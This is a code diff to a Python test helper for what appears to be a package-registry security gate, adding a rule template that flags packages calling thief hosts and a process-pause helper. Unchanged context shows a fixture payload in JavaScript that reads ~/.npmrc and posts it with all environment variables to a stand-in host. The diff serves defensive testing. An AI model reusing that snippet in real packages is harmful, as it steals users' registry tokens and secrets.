@@ -1,5 +1,6 @@
 """gatelib.py - a registry (Verdaccio), a gate before it, and package managers as its clients."""
 import base64
+import contextlib
 import gzip
 import hashlib
 import http.client
@@ -30,6 +31,19 @@ THIEF = ("if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);\n"
          "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
          "const r = https.request({ host: 'collect.invalid', path: '/x', method: 'POST' });\n"
          "r.write(t + JSON.stringify(process.env)); r.end();\n")
+
+# A rule: about %s, that a package calls %s.invalid.
+RULE = """rules:
+- id: calls-%s
+  title: Calls a host of thieves
+  severity: critical
+  verdict: malicious
+  phase: any
+  tactics: [T1041]
+  when: {event: net.connect, host: %s.invalid}
+  explain: It calls a host that belongs to thieves.
+  advice: Do not use it.
+"""
 
 ALLOW_YOUNG = "minimum-age: { default: 0, undated: allow }\n"
 
@@ -289,6 +303,17 @@ class Gate:
     def ledger(self, *args):
         r = subprocess.run([QANAT, "gate", "ledger", "--state", self.state, "--format", "json", *args], capture_output=True, check=False)
         return json.loads(r.stdout)
+
+
+@contextlib.contextmanager
+def stopped(pids):
+    for p in pids:
+        os.kill(p, signal.SIGSTOP)
+    try:
+        yield
+    finally:
+        for p in pids:
+            os.kill(p, signal.SIGCONT)
 
 
 class Receiver:
